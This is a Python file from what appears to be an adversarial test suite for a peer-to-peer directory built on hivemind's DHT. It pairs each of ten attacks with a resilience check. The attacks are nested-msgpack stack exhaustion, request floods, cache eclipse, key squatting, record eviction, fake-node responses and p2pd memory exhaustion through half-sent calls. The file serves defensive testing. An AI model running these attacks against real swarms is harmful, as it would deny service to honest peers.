"""Attacks on the directory: hivemind's calls with hostile content."""

from __future__ import annotations

import asyncio
import os
import time
from typing import Any

import msgpack
from attacks.ground import HONEST_JOB, Ground
from attacks.hold import Attack
from attacks.processor import family
from attacks.stranger import Offer, Stranger, store_request
from attacks.verdict import Verdict
from hivemind.p2p.p2p_daemon_bindings.utils import read_pbmsg_safe
from hivemind.proto import dht_pb2, p2pd_pb2
from support.directory_records import claim_record, digest, job_record, peer_record, provider_record

from fusion.swarm.dht.values import key_id
from fusion.swarm.directory.api import JOB_KEYS, LINK_KEYS, PEER_KEYS
from fusion.swarm.directory.keys import claims_key, shard
from fusion.swarm.directory.records import JobId, Record
from fusion.swarm.errors import SwarmError
from fusion.swarm.identity import Identity
from fusion.swarm.streams.p2pd_control import framed
from fusion.swarm.streams.peer_ids import to_bytes
from fusion.swarm.transport import PeerId

LONG_SECONDS = 118.0  # about the longest lifetime of a record
CLAIM_SECONDS = 6.0
IDENTITIES = 1024
BATCH = 64  # records or keys in one request
SLOW_SECONDS = 3.0  # half a lease
MOST_HELD = 600  # open calls of the attacker
DAEMON_MIB = 192  # limit of p2pd's memory, which is 60 in quiet


# --- Packets that crash a process or block it.


def nested(levels: int) -> bytes:
    """Nested msgpack extensions: hivemind's unpacker recurses in C, with 40 KB of stack for each level."""
    data: bytes = msgpack.packb([1])
    for _ in range(levels):
        data = msgpack.packb(msgpack.ExtType(0x40, data))
        data = b"\x91" + data  # a tuple of it
    return data


async def extensions(stranger: Stranger) -> None:
    """Store values and subkeys of nested msgpack extensions, also as whole dictionaries."""
    key = key_id("x").to_bytes(20, "big")
    while stranger.time_left:  # one round is too short to judge the honest users' rates
        for levels in (100, 200, 400, 800):
            for tag in (b"", nested(levels), msgpack.packb("a")):
                for in_cache in (False, True):
                    request = dht_pb2.StoreRequest(
                        keys=[key],
                        subkeys=[tag],
                        values=[msgpack.packb(msgpack.ExtType(0x50, nested(levels)))],
                        expiration_time=[time.time() + 60],
                        in_cache=[in_cache],
                    )
                    await stranger.everywhere("store", request)


async def many_keys(stranger: Stranger) -> None:
    """Request 64 000 keys at once, again and again, after announcing sixty nodes that do not exist."""
    for _ in range(60):
        info = dht_pb2.NodeInfo(node_id=os.urandom(20))
        await stranger.everywhere("ping", dht_pb2.PingRequest(peer=info))
    keys = [os.urandom(20) for _ in range(64_000)]
    while stranger.time_left:
        await stranger.everywhere("find", dht_pb2.FindRequest(keys=keys))
        for _ in range(20):
            await stranger.everywhere("find", dht_pb2.FindRequest(keys=keys[:BATCH]))


# --- Records that hide or evict others.


def _popular_keys() -> list[str]:
    return [*PEER_KEYS, *JOB_KEYS, *LINK_KEYS, claims_key(HONEST_JOB, 0)]


async def cache_eclipse(stranger: Stranger) -> None:
    """Store one record at each key in the cache, which hivemind reads first."""
    while stranger.time_left:
        offers = [stranger.sealed(claim_record(stranger.identity, job=HONEST_JOB), CLAIM_SECONDS)]
        name = next(
            JobId(digest(f"{n}"))
            for n in range(9999)
            if shard(digest(f"{n}")) == shard(stranger.identity.peer_id)
        )
        offers.append(stranger.sealed(peer_record(stranger.identity), LONG_SECONDS))
        offers.append(stranger.sealed(job_record(stranger.identity, job=name), LONG_SECONDS))
        for wanted in range(16):
            identity = _of_shard(wanted)
            offers.append(stranger.sealed(peer_record(identity), LONG_SECONDS, identity))
        await stranger.everywhere("store", store_request(offers, in_cache=True))
        await asyncio.sleep(1.0)


_SHARDS: dict[int, Identity] = {}


def _of_shard(wanted: int) -> Identity:
    while wanted not in _SHARDS:
        identity = Identity.generate()
        _SHARDS.setdefault(shard(identity.peer_id), identity)
    return _SHARDS[wanted]


async def dictionary(stranger: Stranger) -> None:
    """Store a dictionary of 2 100 jobs of one author under one key, and dictionaries of peers under each shard's key."""
    wanted = shard(HONEST_JOB)
    jobs = [
        stranger.sealed(job_record(stranger.identity, job=JobId(digest(f"d{n}"))), LONG_SECONDS)
        for n in range(40_000)
        if shard(digest(f"d{n}")) == wanted
    ][:2100]
    while stranger.time_left:
        await stranger.everywhere("store", _dictionary(jobs))
        await asyncio.sleep(1.0)


def _dictionary(offers: list[Offer]) -> Any:
    items = [[offer.subkey, offer.data, offer.until] for offer in offers]
    latest = max(offer.until for offer in offers)
    inner = msgpack.packb([float("inf"), latest, items])
    return dht_pb2.StoreRequest(
        keys=[offers[0].key.to_bytes(20, "big")],
        subkeys=[b""],
        values=[msgpack.packb(msgpack.ExtType(0x50, inner))],
        expiration_time=[latest],
        in_cache=[False],
    )


async def jobs_are_listed(ground: Ground, verdict: Verdict) -> None:
    """Check that an honest job of the attacked shard can be published and read."""
    record = job_record(ground.author_identity, job=HONEST_JOB)
    await _taken(ground, verdict, record)
    if await ground.reader.job(HONEST_JOB) != record:
        verdict.notes["fault: job"] = "an honest job was not found"


async def _taken(ground: Ground, verdict: Verdict, record: Record) -> None:
    try:
        await ground.author.publish(record)
    except SwarmError as error:
        verdict.notes["fault: publish"] = str(error)


async def squatting(stranger: Stranger) -> None:
    """Fill a stage's key with claims of as many authors, all sent by one peer."""
    crowd = [Identity.generate() for _ in range(IDENTITIES + 100)]
    while stranger.time_left:
        offers = [
            stranger.sealed(claim_record(one, job=SQUATTED, role="standby"), CLAIM_SECONDS, one)
            for one in crowd
        ]
        for at in range(0, len(offers), BATCH):
            await stranger.everywhere("store", store_request(offers[at : at + BATCH]))


SQUATTED = JobId(digest("squatted"))


async def claims_find_room(ground: Ground, verdict: Verdict) -> None:
    record = claim_record(ground.author_identity, job=SQUATTED)
    await _taken(ground, verdict, record)
    if record not in await ground.reader.claims(SQUATTED, 0):
        verdict.notes["fault: claim"] = "an honest claim found no room under its key"


async def large_records(stranger: Stranger) -> None:
    """Fill one shard of peers and one of jobs with records of the largest size, so that no response can carry them."""
    crowd = [one for one in (Identity.generate() for _ in range(IDENTITIES)) if shard(one.peer_id) == 0]
    long = "é" * 250
    wanted = shard(HONEST_JOB)
    names = [JobId(digest(f"l{n}")) for n in range(2048) if shard(digest(f"l{n}")) == wanted][:64]
    authors = [*crowd, *(Identity.generate() for _ in range(32))]
    while stranger.time_left:
        for one in authors[-24:]:
            offers = [
                stranger.sealed(
                    job_record(one, job=name, message="€" * 500, name="€" * 128), LONG_SECONDS, one
                )
                for name in names
            ]
            for at in range(0, len(offers), BATCH):
                await stranger.everywhere("store", store_request(offers[at : at + BATCH]))
        for one in crowd:
            addresses = tuple(long for _ in range(6))
            await stranger.everywhere(
                "store",
                store_request([stranger.sealed(peer_record(one, addresses=addresses), LONG_SECONDS, one)]),
            )


async def eviction(stranger: Stranger) -> dict[str, Any]:
    """Store long-lived records under more keys than a node keeps, to evict those that expire soon."""
    sent = 0
    while stranger.time_left:
        offers = [
            stranger.sealed(provider_record(stranger.identity, digest=digest(f"p{sent + n}")), LONG_SECONDS)
            for n in range(BATCH)
        ]
        sent += len(offers)
        await stranger.everywhere("store", store_request(offers))
    return {"sent": sent}


async def nothing_was_pushed_out(ground: Ground, verdict: Verdict) -> None:
    for step in range(5):
        if not await ground.operation(step):
            verdict.notes["fault: evicted"] = "an honest record is gone at once"


# --- False nodes.


async def foreign_ids(stranger: Stranger) -> dict[str, Any]:
    """Run a node near each key that is read, which returns no records but sixty-four nearer nodes that do not exist."""
    asked = 0

    async def find(request: Any, _: Any) -> Any:
        nonlocal asked
        asked += 1
        response = dht_pb2.FindResponse(peer=dht_pb2.NodeInfo())
        for key in request.keys:
            result = dht_pb2.FindResult(type=dht_pb2.NOT_FOUND)
            for step in range(1, 65):
                near = (int.from_bytes(key, "big") ^ step).to_bytes(20, "big")
                result.nearest_node_ids.append(near)
                result.nearest_peer_ids.append(b"\x00\x24\x08\x01\x12\x20" + os.urandom(32))
            response.results.append(result)
        return response

    async def ping(request: Any, _: Any) -> Any:
        return dht_pb2.PingResponse(peer=stranger.node_info, dht_time=time.time() + 3600.0)

    async def store(request: Any, _: Any) -> Any:
        return dht_pb2.StoreResponse(store_ok=[True] * len(request.keys))

    for method, handler, kind in (
        ("find", find, dht_pb2.FindRequest),
        ("ping", ping, dht_pb2.PingRequest),
        ("store", store, dht_pb2.StoreRequest),
    ):
        await stranger.transport.p2p.add_protobuf_handler(f"DHTProtocol.rpc_{method}", handler, kind)
    while stranger.time_left:
        for key in _popular_keys():
            beside = dht_pb2.NodeInfo(node_id=(key_id(key) ^ 1).to_bytes(20, "big"))
            await stranger.everywhere("ping", dht_pb2.PingRequest(peer=beside))
        await stranger.everywhere("ping", dht_pb2.PingRequest(peer=stranger.node_info))
        await asyncio.sleep(0.5)
    return {"asked": asked}


async def reads_are_quick(ground: Ground, verdict: Verdict) -> None:
    if verdict.slowest_seconds > SLOW_SECONDS:
        verdict.notes["fault: slow"] = f"a read took {verdict.slowest_seconds:.1f} s"


async def storage_walk(stranger: Stranger) -> dict[str, Any]:
    """Store thousands of small records, then ping under new ids: each makes the node scan all records and send them."""
    received = 0

    async def store(request: Any, _: Any) -> Any:
        nonlocal received
        received += request.ByteSize()
        return dht_pb2.StoreResponse(store_ok=[True] * len(request.keys))

    await stranger.transport.p2p.add_protobuf_handler("DHTProtocol.rpc_store", store, dht_pb2.StoreRequest)
    for at in range(0, 3000, BATCH):
        offers = [
            stranger.sealed(provider_record(stranger.identity, digest=digest(f"w{n}")), LONG_SECONDS)
            for n in range(at, at + BATCH)
        ]
        await stranger.everywhere("store", store_request(offers))
    pings = 0
    while stranger.time_left:
        info = dht_pb2.NodeInfo(node_id=os.urandom(20))
        await stranger.everywhere("ping", dht_pb2.PingRequest(peer=info))
        pings += len(stranger.peers)
    return {"pings": pings, "received_bytes": received}


async def little_is_sent(ground: Ground, verdict: Verdict) -> None:
    if verdict.notes["received_bytes"] > 4 << 20:
        verdict.notes["fault: amplified"] = f"{verdict.notes['received_bytes']} bytes for small pings"


async def unfinished_calls(stranger: Stranger) -> dict[str, Any]:
    """Send half of a call, and calls whose long responses are not read: p2pd itself buffers them."""
    records = [
        stranger.sealed(job_record(stranger.identity, name=f"n{n}" * 40), LONG_SECONDS) for n in range(64)
    ]
    await stranger.everywhere("store", store_request(records))
    find = dht_pb2.FindRequest(keys=[offer.key.to_bytes(20, "big") for offer in records]).SerializeToString()
    held: list[asyncio.StreamWriter] = []
    opened = 0
    while stranger.time_left:
        for peer in stranger.peers:
            await stranger.pace()
            half = await _begin_call(stranger, peer, "store", bytes(1 << 20), sent=(1 << 20) - 4096)
            unread = await _begin_call(stranger, peer, "find", find)
            began = [writer for writer in (half, unread) if writer is not None]
            held += began
            opened += len(began)
        for writer in held[:-MOST_HELD]:
            writer.transport.abort()
        del held[:-MOST_HELD]
    for writer in held:
        writer.transport.abort()
    return {"opened": opened}


async def _begin_call(
    stranger: Stranger, peer: PeerId, method: str, request: bytes, sent: int | None = None
) -> asyncio.StreamWriter | None:
    """Send so many bytes of a call and read no response. Returns None if the call is refused."""
    reader, writer = await asyncio.open_unix_connection(
        str(stranger.transport._daemon.control_path), limit=1024
    )
    protocol = f"DHTProtocol.rpc_{method}"
    opening = p2pd_pb2.StreamOpenRequest(peer=to_bytes(peer), proto=[protocol], timeout=5)
    call = p2pd_pb2.CallUnaryRequest(peer=to_bytes(peer), proto=protocol, data=request)
    message = framed(p2pd_pb2.PersistentConnectionRequest(callId=os.urandom(16), callUnary=call))
    try:
        async with asyncio.timeout(5):
            writer.write(framed(p2pd_pb2.Request(type=p2pd_pb2.Request.STREAM_OPEN, streamOpen=opening)))
            response = p2pd_pb2.Response()
            await read_pbmsg_safe(reader, response)
            if response.type != p2pd_pb2.Response.OK:
                raise ConnectionError(response.error.msg)
            writer.write(message if sent is None else message[:sent])
            await writer.drain()
    except (OSError, TimeoutError, asyncio.IncompleteReadError):
        writer.transport.abort()
        return None
    reader._transport.pause_reading()  # type: ignore[attr-defined]
    return writer


async def daemons_stay_small(ground: Ground, verdict: Verdict) -> None:
    """Check that p2pd's memory falls again after a while."""
    for peer in ground.living:
        daemons = [each for each in family(peer.process.pid) if each.name() == "p2pd"]
        verdict.notes[f"{peer.name}_p2pd_mib"] = mib = max(each.memory_info().rss >> 20 for each in daemons)
        if mib > DAEMON_MIB:
            verdict.notes["fault: p2pd"] = f"that of {peer.name} has {mib} MiB"


ATTACKS = {
    "extensions": Attack(extensions),
    "many_keys": Attack(many_keys),
    "cache_eclipse": Attack(cache_eclipse),
    "dictionary": Attack(dictionary, check=jobs_are_listed),
    "squatting": Attack(squatting, seconds=20.0, check=claims_find_room),
    "large_records": Attack(large_records, seconds=20.0, check=jobs_are_listed),
    "eviction": Attack(eviction, seconds=90.0, check=nothing_was_pushed_out),
    "foreign_ids": Attack(foreign_ids, seconds=15.0, check=reads_are_quick),
    "storage_walk": Attack(storage_walk, seconds=10.0, check=little_is_sent),
    "unfinished_calls": Attack(unfinished_calls, seconds=20.0, check=daemons_stay_small),
}
